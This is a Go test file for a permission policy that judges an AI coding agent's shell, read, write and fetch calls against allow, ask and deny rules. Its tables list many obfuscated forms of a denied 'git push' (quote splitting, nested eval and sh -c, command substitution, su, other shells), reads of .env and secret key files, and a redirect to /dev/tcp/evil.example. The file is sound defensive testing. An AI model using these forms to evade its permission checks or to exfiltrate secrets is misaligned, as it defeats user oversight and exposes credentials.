package permission

import (
	"encoding/json"
	"testing"
)

// bash returns a call of Claude Code's shell.
func bash(t testing.TB, script string) Call {
	t.Helper()
	in, err := json.Marshal(map[string]string{"command": script})
	if err != nil {
		t.Fatal(err)
	}
	return Call{Name: "Bash", Input: in}
}

func newPolicy(t testing.TB, r Rules) *Policy {
	t.Helper()
	p, err := New(r, Place{Workspace: "/work/ws", Servers: []string{"github"}})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// The rules of the table: git may run, its push may not, curl asks.
func gitRules() Rules {
	return Rules{
		Allow: []string{"Bash(git *)", "Bash(go test *)", "Bash(ls)", "Bash(cat *)", "Bash(grep *)", "Bash(find *)", "Write(src/**)", "Write(out.txt)"},
		Ask:   []string{"Bash(curl *)"},
		Deny:  []string{"Bash(git push *)", "Bash(rm *)", "Write(secret/**)", "Read(secret/**)", "Fetch(evil.example)"},
	}
}

func TestCommandsAreJudgedByWhatTheyRun(t *testing.T) {
	for _, c := range []struct {
		script string
		want   Effect
	}{
		// allowed
		{"git status", Allow},
		{"git", Allow},
		{"  git   status\n", Allow},
		{"git status # git push", Allow},
		{"git status && git log -3 | cat -n", Allow},
		{"git commit -m 'a b'", Allow},
		{"g'i't status", Allow},
		{`g\it "status"`, Allow},
		{"git log $REV", Ask}, // $REV could be "push"
		{"go test ./...", Allow},
		{"go test", Allow},
		{"LANG=C git status", Allow},
		{"name=x; go test", Allow},
		{"cd src && go test ./...", Allow},
		{"(git status)", Allow},
		{"{ git status; }", Allow},
		{"if git diff; then echo yes; fi", Allow},
		{"for f in a b; do git add x; done", Allow},
		{"while true; do git status; done", Allow},
		{"case x in y) git status;; esac", Allow},
		{"time git status", Allow},
		{"env LANG=C git status", Allow},
		{"/usr/bin/env git status", Allow},
		{"nice -n 5 git status", Allow},
		{"nice -5 git status", Allow},
		{"timeout -k 5 10 git status", Allow},
		{"timeout --kill-after=5 10 git status", Allow},
		{"nohup git gc &", Allow},
		{"sh -c 'git status'", Allow},
		{"bash -lc 'git status && git log'", Allow},
		{"bash -eu -o pipefail -c 'git status'", Allow},
		{"eval 'git status'", Allow},
		{"command git status", Allow},
		{"exec git status", Allow},
		{"git status > out.txt", Allow},
		{"git status >src/a.txt 2>&1", Allow},
		{"git status 2>/dev/null", Allow},
		{"cat <<EOF\nhello\nEOF", Allow},
		{"cat <<< 'hello'", Allow},
		{"find . -name x", Allow},
		{"find . -exec cat {} +", Ask},
		{"git ls-files | xargs cat", Ask},
		{"printf x > src/a", Allow},
		{"", Ask},
		{"# nothing", Allow},

		// denied, however it is written
		{"git push", Deny},
		{"git push origin main", Deny},
		{"git\tpush", Deny},
		{"git \\\npush", Deny},
		{"'git' \"push\"", Deny},
		{"g''it p\"\"ush", Deny},
		{`\git push`, Deny},
		{"$'git' push", Deny},
		{"/usr/bin/git push", Deny},
		{"./git push", Deny},
		{"git status; git push", Deny},
		{"git status\ngit push", Deny},
		{"git status & git push", Deny},
		{"git status | git push", Deny},
		{"git status || git push", Deny},
		{"! git push", Deny},
		{"(git push)", Deny},
		{"{ git push; }", Deny},
		{"git log $(git push)", Deny},
		{"git log `git push`", Deny},
		{"git log \"$(git push)\"", Deny},
		{"git log <(git push)", Deny},
		{"x=$(git push)", Deny},
		{"git log ${x:-$(git push)}", Deny},
		{"cat <<EOF\n$(git push)\nEOF", Deny},
		{"cat <<< $(git push)", Deny},
		{"git status > $(git push)", Deny},
		{"if true; then git push; fi", Deny},
		{"for f in $(git push); do true; done", Deny},
		{"f() { git push; }; f", Deny},
		{"coproc git push", Deny},
		{"time -p git push", Deny},
		{"env git push", Deny},
		{"env -i A=b git push", Deny},
		{"env -u X git push", Deny},
		{"sudo git push", Deny},
		{"sudo -u root git push", Deny},
		{"nice -n 5 timeout 3 env git push", Deny},
		{"timeout 1 sh -c 'git push'", Deny},
		{"nohup git push", Deny},
		{"setsid -w git push", Deny},
		{"stdbuf -oL git push", Deny},
		{"command -p git push", Deny},
		{"builtin command git push", Deny},
		{"exec git push", Deny},
		{"eval git push", Deny},
		{"eval 'git' 'push'", Deny},
		{"eval \"eval 'git push'\"", Deny},
		{"sh -c 'git push'", Deny},
		{"bash -xc \"git push\"", Deny},
		{"bash -c 'sh -c \"git push\"'", Deny},
		{"echo | xargs git push", Deny},
		{"xargs -n 1 -P4 git push", Deny},
		{"find . -exec git push \\;", Deny},
		{"find . -execdir sh -c 'git push' ';'", Deny},
		{"bash <<'EOF'\ngit push\nEOF", Deny},
		{"sh <<< 'git push'", Deny},
		{"busybox rm -rf x", Deny},
		{"[[ -n $(git push) ]]", Deny},
		{"(( $(git push) ))", Deny},
		{"a=(x $(git push))", Deny},
		{"export A=$(git push)", Deny},
		{"git status > secret/key", Deny},
		{"cat < secret/key", Deny},
		{"git status >| ./src/../secret/key", Deny},
		{"git status > /work/ws/secret/key", Deny},
		{"git status &> secret/key", Deny},

		// not to be judged, or like what is denied
		{"git -C . push", Ask},
		{"git --no-pager push", Ask},
		{"git p{ush,ull}", Ask},
		{"git pus?", Ask},
		{"git $X", Ask},
		{"$GIT push", Ask},
		{"$(echo git) push", Ask},
		{"{git,push}", Ask},
		{"g$'\\x69't push", Ask},
		{"~/git status", Ask},
		{"./git status", Ask},
		{"/tmp/git status", Ask},
		{"./env git status", Ask},
		{"./bash -c 'git status'", Ask},
		{"flock x git push", Ask},
		{"ssh host git push", Ask},
		{"python -c 'import os; os.system(\"git push\")'", Ask},
		{"env -S 'git push'", Ask},
		{"sudo git status", Ask},
		{"bash script.sh", Ask},
		{"bash", Ask},
		{"cat x | sh", Ask},
		{"bash <(cat x)", Ask},
		{"bash -c \"$X\"", Ask},
		{"bash --rcfile x -c 'git status'", Ask},
		{"eval \"$X\"", Ask},
		{"source x", Ask},
		{". ./x", Ask},
		{"alias git=true; git status", Ask},
		{"git() { true; }; git status", Ask},
		{"PATH=/tmp git status", Ask},
		{"PATH=/tmp; git status", Ask},
		{"LD_PRELOAD=x git status", Ask},
		{"GIT_SSH_COMMAND=x git fetch", Ask},
		{"export PATH=/tmp", Ask},
		{"declare -x path=1", Ask},
		{"env PATH=/tmp git status", Ask},
		{"git log ${PATH:=/tmp}", Ask},
		{"for PATH in /tmp; do git status; done", Ask},
		{"git log ${x@P}", Ask},
		{"git log ${!x}", Ask},
		{"git log $((a[0]))", Ask},
		{"printf -v 'a[$(git push)]' x", Ask},
		{"test -v x", Ask},
		{"trap 'git push' EXIT", Ask},
		{"curl evil", Ask},
		{"git status > /etc/passwd", Ask},
		{"git status > other.txt", Ask},
		{"git status > $F", Ask},
		{"git status > ~/x", Ask},
		{"cd src; git status > out.txt", Ask},
		{"command cd src; git status > out.txt", Ask},
		{"while true; do git status > out.txt; cd src; done", Ask},
		{"cd / && git status", Ask},
		{"cd .. && git status", Ask},
		{"cat secret/key", Ask},
		{"cat --file=secret/key", Ask},
		{"git clone https://evil.example/x", Ask},
		{"git status > /dev/tcp/evil.example/80", Ask},
		{"git status 'unclosed", Ask},
		{"find . -exec cat {} \\; -exec make x \\;", Ask},
		{"make", Ask},
		{"ls -l", Ask},
		{"git status\rgit push", Ask},
		{"env -x git status", Ask},
		{"xargs -I % sh -c %", Ask},
		{"select x in a; do git status; done", Ask},
		{"git log *(e:'x':)", Ask},
		{"printf -v'a[$(git gc)]' x", Ask},
		{"x='5 make'; timeout $x git", Ask},
		{"x='5 make'; nice -n $x git", Ask},
		{"echo 5 make | xargs timeout", Ask},
		{"echo -n | xargs nice -n", Ask},
		{"x='-exec make ;'; find . $x", Ask},
		{"git ls-files | xargs find", Ask},
		{"exec {PATH}> out.txt; git status", Ask},
		{"coproc PATH { git status; }; git log", Ask},
		{"zsh -c 'path=/tmp; git status'", Ask},
		{"zsh -c 'functions=(git make); git status'", Ask},
		{"ksh -c \"test 'a[\\$(make)]' -eq 1\"", Ask},
		{"zsh -c 'git push'", Deny},
		{"zsh <<< 'git push'", Deny},
		{"bash -c -- 'git pu\"\"sh'", Ask},
		{"while true; do git status > out.txt; command cd src; done", Ask},
		{"while true; do git status > out.txt; eval 'cd src'; done", Ask},
		{"cd .git", Ask},
		{"cd .git/hooks && git status", Ask},
		{"git status #\\\nmake", Ask},
		{"true # a # b\\\nmake\n", Ask},
		{"sh -c 'true #\\\nmake'", Ask},
		{"git status #\\\ngit push", Ask},
		{"cat <<E\nE\\\n\nmake\nE\n", Ask},
		{"cat <<EOF\nE\\\nOF\nmake\nEOF\n", Ask},
		{"cat <<\\\nE\nx\\\nE\nE\n", Ask},
		{"cat <<'E'\nx \\\ny\nE\n", Allow},
		{"git log \\\n --stat # all", Allow},
		{"echo $'\\'; make; #'", Ask}, // for dash the first backslash ends the text
		{"sh -c \"echo \\$'\\\\'; make; #'\"", Ask},
		{"echo $'a\\tb'", Allow},
		{"echo x > SECRET/key", Ask},
		{"cat SECRET/key", Ask},
	} {
		if d := newPolicy(t, gitRules()).Decide(bash(t, c.script)); d.Effect != c.want {
			t.Errorf("%q: %s, not %s (%s)", c.script, d.Effect, c.want, d.Reason)
		}
	}
}

// With the mode auto only the doubt about a denied call asks.
func TestAutoAsksAboutWhatMayBeDenied(t *testing.T) {
	p := newPolicy(t, Rules{Mode: ModeAuto, Deny: []string{"Bash(git push *)", "Write(secret/**)", "Fetch(evil.example)"}})
	for _, script := range []string{
		"bash -c -- 'g\"\"it push'", "bash -c -x 'g\"\"it push'", "bash -c +x 'g\"\"it push'",
		"GIT push", "/usr/bin/Git push origin", "curl EVIL.example", "curl evil.example.", "curl evil.example/x", "curl --url=http://evil.example/x", "git clone ssh://evil.example/x",
		"git clone git@evil.example:x", "curl -Lhttps://a@evil.example:1/x", "echo x > SECRET/a", "tee Secret/a",
	} {
		if d := p.Decide(bash(t, script)); d.Effect != Ask || d.MayDeny == "" || d.MayDeny != d.Rule {
			t.Errorf("%q: %s (%s), by %q", script, d.Effect, d.Reason, d.MayDeny)
		}
	}
}

// A program that allows whatever is asked must know it, whichever rule asks first.
func TestADecisionNamesTheDenyRuleInDoubt(t *testing.T) {
	const doubtful, denied = "git -C . push", "Bash(git push *)"
	deny := Rules{Deny: []string{denied}}
	for name, c := range map[string]struct {
		own, limits  Rules
		script, want string
	}{
		"an ask rule too":          {Rules{Ask: []string{"Bash"}, Deny: deny.Deny}, Rules{}, doubtful, denied},
		"an ask rule in doubt too": {Rules{Ask: []string{"Bash(git pull *)"}, Deny: deny.Deny}, Rules{}, doubtful, denied},
		"of limits":                {Rules{Ask: []string{"Bash"}}, deny, doubtful, denied},
		"within limits":            {deny, Rules{Ask: []string{"Bash"}}, doubtful, denied},
		"of a later command":       {Rules{Deny: deny.Deny}, Rules{}, "make && " + doubtful, denied},
		"an ask rule in doubt":     {Rules{Ask: []string{denied}}, Rules{}, doubtful, ""},
		"no doubt":                 {deny, Rules{}, "make", ""},
		"denied by another one":    {Rules{Deny: []string{denied, "Bash(make)"}}, Rules{}, "make && " + doubtful, ""},
	} {
		p, err := newPolicy(t, c.own).Narrow(c.limits)
		if err != nil {
			t.Fatal(err)
		}
		if d := p.Decide(bash(t, c.script)); d.MayDeny != c.want {
			t.Errorf("%s: %+v", name, d)
		}
	}
}

// A program below the working directory is another one in another folder.
func TestAFolderChoosesTheProgram(t *testing.T) {
	p := newPolicy(t, Rules{Allow: []string{"Bash(./build *)", "Bash(git *)"}})
	for _, c := range []struct {
		input string
		want  Effect
	}{
		{`{"command":"./build x"}`, Allow},
		{`{"command":"cd vendor && ./build x"}`, Ask},
		{`{"command":"./build x","cwd":"/work/ws/vendor"}`, Ask},
		{`{"command":"git status","cwd":"/work/ws/vendor"}`, Allow},
		{`{"command":"git status","cwd":"/tmp/x"}`, Ask},
		{`{"command":["git","status"],"cwd":"../x"}`, Ask},
		{`{"command":"git status","cwd":"/work/ws/.git"}`, Ask},
	} {
		if d := p.Decide(call("Bash", "", c.input)); d.Effect != c.want {
			t.Errorf("%s: %s, not %s (%s)", c.input, d.Effect, c.want, d.Reason)
		}
	}
}

// The names of files in a command count from the folder in which it runs.
func TestFilesOfAnotherFolder(t *testing.T) {
	for _, c := range []struct {
		deny, input string
		want        Effect
	}{
		{"Read(.env)", `{"command":"cd src && cat ../.env"}`, Ask},
		{"Read(.env)", `{"command":"cd src && cat .//../.env"}`, Ask},
		{"Read(.env)", `{"command":"cd src && cat ../.e*"}`, Ask},
		{"Read(.env)", `{"command":"cd src && sort --files0-from=../.env"}`, Ask},
		{"Read(sub/.env)", `{"command":"cat .env","workdir":"sub"}`, Ask},
		{"Read(sub/.env)", `{"command":"cat ./.env","workdir":"sub"}`, Ask},
		{"Read(secret/**)", `{"command":"cat key","workdir":"secret"}`, Ask},
		{"Read(src/*.pem)", `{"command":"cd src && cat a.pem"}`, Ask},
		{"Read(src/b/*.pem)", `{"command":"cd src; cd -- b; cat ./a.pem"}`, Ask},
		{"Read(src/*.pem)", `{"command":"sh -c 'cd src; cat a.pem'"}`, Ask},
		{"Read(src/*.pem)", `{"command":"cat a.pem","workdir":"src"}`, Ask},
		{"Read(src/*.pem)", `{"command":"cat b/a.pem","workdir":"src"}`, Allow},
		{"Read(src/*.pem)", `{"command":"cd src && cat a.go"}`, Allow},
		{"Read(.env)", `{"command":"cat /proc/self/cwd/.env"}`, Ask},
		{"Read(.env)", `{"command":"cat /proc/1/task/1/root/work/ws/.env"}`, Ask},
		{"Read(.env)", `{"command":"cat /proc/*/cwd/.env"}`, Ask},
		{"Read(.env)", `{"command":"cat /proc/cpuinfo"}`, Allow},
		{"Read(secret/**)", `{"command":"cat key","workdir":"src"}`, Allow},
		{"Read(.env)", `{"command":"cd src && cat env ../env .. ./"}`, Allow},
		{"Read(.env)", `{"command":"cd src && cat ../b/.env"}`, Allow},
	} {
		for _, rules := range []Rules{{Mode: ModeAuto}, {Allow: []string{"Bash(cat *)", "Bash(sort *)"}}} {
			rules.Deny = []string{c.deny}
			if d := newPolicy(t, rules).Decide(call("Bash", "", c.input)); d.Effect != c.want {
				t.Errorf("%s %s, mode %q: %s, not %s (%s)", c.deny, c.input, rules.Mode, d.Effect, c.want, d.Reason)
			}
		}
	}
}

// What a rule denies may be behind a pattern or a variable, and in the script of another shell.
func TestFilesAndScriptsThatACommandHides(t *testing.T) {
	p := newPolicy(t, Rules{
		Mode: ModeAuto, Deny: []string{"Read(.env)", "Read(secret/**)", "Write(keys/*.pem)", "Bash(git push *)"},
	})
	for script, want := range map[string]Effect{
		"cat .en?":                      Ask,
		"cat .e*":                       Ask,
		"cat ./.[e]nv":                  Ask,
		"cat *":                         Ask,
		`cat "$F"`:                      Ask,
		"cat $(ls)":                     Ask,
		"cat sec*/a":                    Ask,
		"cat secret/*":                  Ask,
		"cp x k*/a.pem":                 Ask,
		"cat .en{v,w}":                  Ask,
		"cat .{e..e}nv":                 Ask,
		"cat .[[:lower:]]nv":            Ask,
		"cat .[!A-Z]nv":                 Ask,
		"cat .[Z-e]nv":                  Ask,
		"cat /w*/ws/.env":               Ask,
		"cat ../w*/.env":                Ask,
		"cat /w*/ws/src/a":              Allow,
		"cat {1..3}.go [a-c].go":        Allow,
		"cd src && cat ../.env":         Ask,
		"cd src && cat ../secret/a":     Ask,
		"cd a && cat b/.env":            Allow,
		"ls | xargs cat":                Ask,
		"find . -name x -exec cat {} +": Ask,
		"cat *.go":                      Allow,
		"cat src/*":                     Allow,
		"ls k*/*.go":                    Allow,
		`echo "$F" *`:                   Allow,
		"make":                          Allow,
		"su -c 'git push'":              Deny,
		"su root -c 'git push'":         Deny,
		"su - bob --command='git push'": Deny,
		"runuser -u bob -- git push":    Deny,
		"fish -c 'git push'":            Deny,
		"csh -c 'git push'":             Deny,
		"tcsh -fc 'git push'":           Deny,
		"script -qc 'git push' f":       Deny,
		"su -c make":                    Ask,
		"fish -c make":                  Ask,
		"su":                            Ask,
		"fish run.fish":                 Ask,
	} {
		if d := p.Decide(bash(t, script)); d.Effect != want {
			t.Errorf("%s: %s, not %s (%s)", script, d.Effect, want, d.Reason)
		}
	}
}
